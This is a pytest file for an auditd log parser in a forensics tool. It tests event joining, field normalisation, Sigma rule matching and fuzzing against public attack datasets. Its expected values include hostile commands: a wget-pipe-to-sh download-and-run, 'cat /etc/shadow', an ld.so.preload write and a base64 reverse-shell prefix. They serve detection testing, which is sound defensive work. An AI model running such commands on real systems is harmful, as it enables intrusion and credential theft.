from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.ingest.parsers.conftest import Parsed
from trailguard.ingest.base import ParseContext, Record, Rejected
from trailguard.ingest.parsers import auditd
from trailguard.ingest.parsers.auditd import AuditdParser

ParseFn = Callable[..., Parsed]
SniffFn = Callable[..., str | None]


def _text(raw: str | bytes) -> str:
    """A record's raw text (parsers may hand it over as str or as UTF-8 bytes)."""
    return raw if isinstance(raw, str) else raw.decode("utf-8")

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "auditd"
OTRF = Path("otrf") / "datasets"


def _by_serial(parsed: Parsed) -> dict[str, Record]:
    return {record.data["serial"]: record for record in parsed.records}


def test_raw_audit_log_joins_interleaved_records_into_events(parse: ParseFn) -> None:
    parsed = parse("auditd", (FIXTURES / "audit.log").read_bytes(), name="audit.log")
    assert [r.position for r in parsed.records] == [1, 3, 14, 15, 16, 19, 24, 26, 27, 32]
    assert [(r.position, _text(r.raw)) for r in parsed.rejected] == [
        (25, "this is not an audit record")]
    events = _by_serial(parsed)

    curl = events["1001"]
    assert curl.data["type"] == "SYSCALL"
    assert curl.data["record_types"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert (curl.data["SYSCALL"], curl.data["syscall_nr"]) == ("execve", "59")
    assert curl.data["syscall_a0"] == "55d0c0a1b2c0"
    assert [curl.data["a0"], curl.data["a1"], curl.data["a2"]] == [
        "curl", "-s", "http://203.0.113.9/x y"]
    assert curl.data["proctitle"] == "curl -s http://203.0.113.9/x y"
    assert curl.data["cwd"] == "/home/alice"
    assert (curl.data["name"], curl.data["nametype"]) == ("/usr/bin/curl", "NORMAL")
    assert curl.data["path_name"] == ["/usr/bin/curl", "/lib64/ld-linux-x86-64.so.2"]
    assert curl.data["key"] == "exec_watch"
    assert _text(curl.raw).count("\n") == 6  # seven lines: SYSCALL … PROCTITLE and EOE
    assert "1002" not in _text(curl.raw)
    assert curl.time is not None
    assert curl.time.isoformat() == "2024-03-01T10:00:00.100000"
    assert curl.normal == {
        "operation": "execve", "category": "process", "outcome": "success",
        "process_pid": 4242, "parent_pid": 4100, "process_name": "/usr/bin/curl",
        "process_cmdline": "curl -s http://203.0.113.9/x y", "process_user": "1000",
        "actor_user": "1000", "actor_principal": "1000", "actor_session": "7",
        "file_path": "/usr/bin/curl", "host": None}

    connect = events["1002"]
    assert connect.data["SYSCALL"] == "connect"
    assert (connect.data["saddr_family"], connect.data["saddr_ip"], connect.data["saddr_port"]) \
        == ("inet", "203.0.113.9", 80)
    assert (connect.normal["dst_ip"], connect.normal["dst_port"]) == ("203.0.113.9", 80)
    assert connect.normal["category"] == "network"
    assert connect.normal["outcome"] == "failure"

    login = events["1003"]
    assert login.data["type"] == "USER_LOGIN"
    assert (login.data["op"], login.data["exe"], login.data["res"]) == (
        "login", "/usr/sbin/sshd", "success")
    assert login.normal["src_ip"] == "198.51.100.23"
    assert login.normal["category"] == "authentication"

    sudo_cmd = events["1004"]
    assert sudo_cmd.data["cmd"] == "cat /etc/shadow"
    assert sudo_cmd.normal["process_cmdline"] == "cat /etc/shadow"

    chunked = events["1005"]
    assert chunked.data["a2"] == "echo hello world"
    assert chunked.data["key"] is None
    assert chunked.normal["process_cmdline"] == "bash -c echo hello world"

    preload = events["1006"]
    assert preload.data["node"] == "web01"
    assert preload.data["SYSCALL"] == "openat"
    assert (preload.data["name"], preload.data["nametype"]) == ("/etc/ld.so.preload", "CREATE")
    assert preload.data["path_nametype"] == ["PARENT", "CREATE"]
    assert preload.data["enriched"]["UID"] == "root"
    assert preload.data["enriched"]["OUID"] == "root"
    assert preload.normal["file_path"] == "/etc/ld.so.preload"
    assert preload.normal["host"] == "web01"
    assert preload.normal["process_user"] == "root"
    assert preload.normal["actor_user"] is None  # auid unset
    assert preload.normal["category"] == "file"

    service = events["1007"]
    assert (service.data["type"], service.data["unit"]) == ("SERVICE_STOP", "firewalld")
    assert service.normal["category"] == "service"

    add_user = events["1008"]
    assert add_user.data["type"] == "ADD_USER"
    assert add_user.normal["category"] == "account"

    hexed = events["1010"]
    assert (hexed.data["exe"], hexed.data["comm"], hexed.data["a0"]) == (
        "/tmp/my exe", "my exe", "/tmp/my exe")
    assert hexed.data["key"] == "k1,k2"
    assert hexed.normal["file_path"] == "/tmp/my exe"  # relative PATH name joined with cwd

    avc = events["1009"]
    assert avc.data["record_types"] == ["AVC", "SYSCALL"]
    assert (avc.data["seresult"], avc.data["seperms"]) == ("denied", "read,write")
    assert avc.data["comm"] == "httpd"
    assert avc.data["tclass"] == "file"
    assert avc.data["SYSCALL"] == "open"


def test_field_names_are_unique_without_letter_case(parse: ParseFn) -> None:
    """The case store matches column names without regard to case: never emit twins."""
    parsed = parse("auditd", (FIXTURES / "audit.log").read_bytes())
    parsed_auoms = parse("auditd", (FIXTURES / "auoms.ndjson").read_bytes())
    names: dict[str, str] = {}
    for record in parsed.records + parsed_auoms.records:
        for name in _flat_names(record.data):
            assert names.setdefault(name.lower(), name) == name


def _flat_names(data: dict[str, Any], prefix: str = "") -> list[str]:
    names = []
    for key, value in data.items():
        if isinstance(value, dict):
            names.extend(_flat_names(value, f"{prefix}{key}."))
        else:
            names.append(prefix + key)
    return names


def _syscall(serial: int) -> str:
    return (f"type=SYSCALL msg=audit(1709287200.000:{serial}): arch=c000003e syscall=59 "
            f'success=yes exit=0 pid={serial} comm="x"')


def _execve(serial: int) -> str:
    return f'type=EXECVE msg=audit(1709287200.000:{serial}): argc=1 a0="x{serial}"'


def test_interleaved_events_within_the_window_are_complete(parse: ParseFn,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(auditd, "WINDOW", 3)
    lines = [_syscall(1), _syscall(2), _execve(1), _syscall(3), _execve(2), _execve(3)]
    parsed = parse("auditd", "\n".join(lines).encode())
    assert [(r.position, r.data["a0"]) for r in parsed.records] == [
        (1, "x1"), (2, "x2"), (4, "x3")]


def test_bounded_window_emits_the_oldest_open_event(parse: ParseFn,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(auditd, "WINDOW", 3)
    lines = [_syscall(serial) for serial in range(1, 11)]
    lines += [_execve(serial) for serial in range(1, 11)]
    parsed = parse("auditd", "\n".join(lines).encode())
    # Records further apart than the window end up in separate events, but none is lost.
    assert not parsed.rejected
    assert sum(_text(r.raw).count("\n") + 1 for r in parsed.records) == 20
    assert sorted(r.position for r in parsed.records) == list(range(1, 21))
    assert max(len(r.data["record_types"]) for r in parsed.records) == 1


def test_many_arguments_keep_their_numbers(parse: ParseFn) -> None:
    args = " ".join(f'a{index}="arg{index}"' for index in range(70) if index != 5)
    data = f"type=EXECVE msg=audit(1709287200.000:7): argc=70 {args}\n".encode()
    record = parse("auditd", data).records[0]
    assert record.data["a4"] == "arg4"
    assert "a5" not in record.data
    assert record.data["a63"] == "arg63"
    assert "a64" not in record.data
    assert record.data["argv_rest"] == [f"arg{index}" for index in range(64, 70)]
    assert record.normal["process_cmdline"].endswith("arg68 arg69")


def test_syslog_forwarded_and_kernel_printk_forms(parse: ParseFn) -> None:
    parsed = parse("auditd", (FIXTURES / "audisp_syslog.log").read_bytes())
    assert not parsed.rejected
    execve, stop = parsed.records
    assert execve.data["a0"] == "id"
    assert execve.data["envelope"]["program"] == "audisp-syslog"
    assert execve.normal["host"] == "web01"
    assert (stop.data["type"], stop.data["unit"]) == ("SERVICE_STOP", "ufw")
    assert stop.data["envelope"]["program"] == "kernel"


def test_ausearch_interpreted_output_is_rejected_with_a_hint(parse: ParseFn) -> None:
    data = (b"----\ntype=PROCTITLE msg=audit(03/01/2024 10:00:00.100:1001) : proctitle=ls -la\n")
    parsed = parse("auditd", data)
    assert not parsed.records
    assert "ausearch -i" in parsed.rejected[0].reason


def test_auoms_rows_keep_the_outer_json(parse: ParseFn) -> None:
    parsed = parse("auditd", (FIXTURES / "auoms.ndjson").read_bytes(), name="auoms.json")
    assert [r.position for r in parsed.records] == [1, 3]
    assert [(r.position, r.reason) for r in parsed.rejected] == [
        (2, "SyslogMessage is not an audit record"),
        (4, parsed.rejected[1].reason),
        (5, "JSON row without a SyslogMessage")]
    assert parsed.rejected[1].reason.startswith("invalid JSON")
    web, python = parsed.records
    assert web.data["type"] == "AUOMS_EXECVE"
    assert (web.data["SYSCALL"], web.data["syscall_nr"]) == ("execve", "59")
    assert web.data["syscall_a3"] == "b"
    assert web.data["cmdline"] == 'sh -c "wget -q -O- http://203.0.113.50/s | sh"'
    assert web.data["path_name"] == ["/bin/sh", "/lib64/ld-linux-x86-64.so.2"]
    assert web.data["envelope"]["Computer"] == "APP7"
    assert "SyslogMessage" not in web.data["envelope"]
    assert web.normal["process_user"] == "www-data"
    assert web.normal["process_cmdline"] == web.data["cmdline"]
    assert web.normal["actor_session"] is None  # ses="-1"
    assert python.data["proctitle"] == "python3 deploy.py --cluster prod"
    assert python.data["redactors"] == ""
    assert python.normal["actor_user"] == "alice"
    assert python.normal["outcome"] == "failure"
    assert json.loads(_text(web.raw))["SyslogMessage"].startswith("type=AUOMS_EXECVE")


# --- Public data --------------------------------------------------------------------------------


def _zip_member(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        names = [name for name in archive.namelist() if not name.startswith("__MACOSX")]
        assert len(names) == 1
        return archive.read(names[0])


@pytest.mark.parametrize(("zip_name", "lines", "events"), [
    ("discovery/host/sh_arp_cache.zip", 12, 2),
    ("defense_evasion/host/sh_binary_padding_dd.zip", 6, 1),
])
def test_otrf_linux_atomics(parse: ParseFn, shared_data: Path, zip_name: str, lines: int,
                            events: int) -> None:
    data = _zip_member(shared_data / OTRF / "atomic" / "linux" / zip_name)
    text = data.decode()
    assert len(text.splitlines()) == lines
    serials = set(re.findall(r"msg=audit\((\d+\.\d+:\d+)\)", text))
    parsed = parse("auditd", data, name=zip_name)
    assert not parsed.rejected
    assert len(parsed.records) == len(serials) == events
    assert sum(_text(r.raw).count("\n") + 1 for r in parsed.records) == lines
    for record in parsed.records:
        assert record.data["SYSCALL"] == "execve"
        assert record.data["proctitle"] == record.normal["process_cmdline"]
        assert record.normal["process_user"] == "1000"
        assert record.normal["actor_session"] == "104"
    first = parsed.records[0]
    if events == 2:
        assert (first.data["a0"], first.data["a1"]) == ("arp", "-a")
        assert parsed.records[1].data["proctitle"] == "grep -v ^?"
    else:
        assert first.normal["process_cmdline"] == "dd if=/dev/zero bs=1 count=1"
        assert first.data["exe"] == "/bin/dd"


def test_otrf_log4shell_auoms(parse: ParseFn, shared_data: Path) -> None:
    path = (shared_data / OTRF / "compound" / "Log4Shell"
            / "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip")
    data = _zip_member(path)
    rows = [json.loads(line) for line in data.decode().splitlines() if line.strip()]
    parsed = parse("auditd", data, name=path.name)
    assert len(parsed.records) == len(rows) == 50
    assert not parsed.rejected
    assert all(r.data["type"] == "AUOMS_EXECVE" and r.data["SYSCALL"] == "execve"
               for r in parsed.records)
    assert all(r.normal["host"] == "UBUNTU5" for r in parsed.records)
    reverse_shell = [r for r in parsed.records if "base64" in (r.data.get("cmdline") or "")
                     and r.data.get("comm") == "bash"]
    assert len(reverse_shell) == 1
    shell = reverse_shell[0]
    assert shell.data["cmdline"].startswith('bash -c "{echo,YmFzaCAtaSA+')
    assert shell.normal["process_user"] == "tomcat"
    assert shell.normal["parent_pid"] == 1340
    assert shell.time is not None


def _selection_matches(selection: dict[str, Any], data: dict[str, Any]) -> bool:
    """A small Sigma selection matcher using the documented ``type`` convention."""
    for spec, wanted in selection.items():
        field, _, modifier = spec.partition("|")
        options = wanted if isinstance(wanted, list) else [wanted]
        if field == "type":
            if not any(str(option) in data["record_types"] for option in options):
                return False
            continue
        value = data.get(field)
        if value is None:
            return False
        text = str(value).lower()
        tests = {"": text.__eq__, "contains": text.__contains__,
                 "startswith": text.startswith, "endswith": text.endswith}[modifier]
        if not any(tests(str(option).lower()) for option in options):
            return False
    return True


def test_sigma_auditd_rules_find_their_fields(parse: ParseFn, shared_data: Path) -> None:
    yaml = pytest.importorskip("yaml")
    rules = shared_data / "sigma" / "rules" / "linux" / "auditd"
    events = _by_serial(parse("auditd", (FIXTURES / "audit.log").read_bytes()))

    def selection(rule: str, name: str) -> dict[str, Any]:
        document = yaml.safe_load((rules / rule).read_text())
        value: dict[str, Any] = document["detection"][name]
        return value

    assert _selection_matches(selection("path/lnx_auditd_ld_so_preload_mod.yml", "selection"),
                              events["1006"].data)
    assert _selection_matches(
        selection("service_stop/lnx_auditd_disable_system_firewall.yml", "selection"),
        events["1007"].data)
    assert _selection_matches(
        selection("syscall/lnx_auditd_create_account.yml", "selection_add_user_record_type"),
        events["1008"].data)
    assert not _selection_matches(
        selection("path/lnx_auditd_ld_so_preload_mod.yml", "selection"), events["1001"].data)

    padding = _zip_member(shared_data / OTRF / "atomic" / "linux" / "defense_evasion" / "host"
                          / "sh_binary_padding_dd.zip")
    event = parse("auditd", padding).records[0]
    assert _selection_matches(
        selection("execve/lnx_auditd_binary_padding.yml", "selection_execve"), event.data)
    assert all(word in _text(event.raw) for word in ("dd", "if="))
    assert "of=" not in _text(event.raw)
    assert _selection_matches({"type": "SYSCALL", "SYSCALL": ["execve", "execveat"]}, event.data)


# --- Sniffing -----------------------------------------------------------------------------------




@pytest.mark.parametrize("sample", [
    b"Mar  1 10:00:00 web01 sshd[1]: Accepted password for a from 192.0.2.1 port 2 ssh2\n",
    b'{"eventVersion": "1.08", "eventSource": "iam.amazonaws.com", "eventName": "X"}\n',
    b'{"SyslogMessage": "<Event><System><Provider Name=\\"Linux-Sysmon\\"/></System></Event>"}\n',
    b": 1709287200:0;ls -la\n",
])
def test_other_formats_are_not_claimed(sample: bytes) -> None:
    assert AuditdParser.sniff(sample, "evidence.log") == 0


def test_sniff_public_files(sniff: SniffFn, shared_data: Path) -> None:
    for path in sorted((shared_data / OTRF / "atomic" / "linux").glob("*/host/*.zip")):
        assert sniff(_zip_member(path), path.name) == "auditd"
    path = (shared_data / OTRF / "compound" / "Log4Shell"
            / "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip")
    assert sniff(_zip_member(path)[:65536], path.name) == "auditd"


# --- Hostile input ------------------------------------------------------------------------------


def _run(data: bytes) -> list[Record | Rejected]:
    return list(AuditdParser().parse(io.BytesIO(data), ParseContext("x")))


def _check(items: list[Record | Rejected]) -> None:
    for item in items:
        assert isinstance(item, Record | Rejected)
        assert item.position > 0


@settings(max_examples=80, deadline=None)
@given(st.lists(st.text(max_size=160), max_size=10),
       st.sampled_from(["", "type=SYSCALL msg=audit(1.2:3): ", "type=EXECVE msg=audit(1.2:3): ",
                        "type=USER_CMD msg=audit(1.2:4): msg='", "type=SOCKADDR msg=audit(1.2:3): ",
                        "type=AUOMS_EXECVE audit(1.2:5): ", "type=1300 audit(1.2:3): "]))
def test_random_bodies_never_raise(lines: list[str], prefix: str) -> None:
    _check(_run("\n".join(prefix + line for line in lines).encode()))


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(["audit.log", "audisp_syslog.log", "auoms.ndjson"]), st.floats(0, 1))
def test_truncated_fixtures_never_raise(name: str, fraction: float) -> None:
    data = (FIXTURES / name).read_bytes()
    items = _run(data[: int(len(data) * fraction)])
    _check(items)
    positions = [item.position for item in items]
    assert len(positions) == len(set(positions))
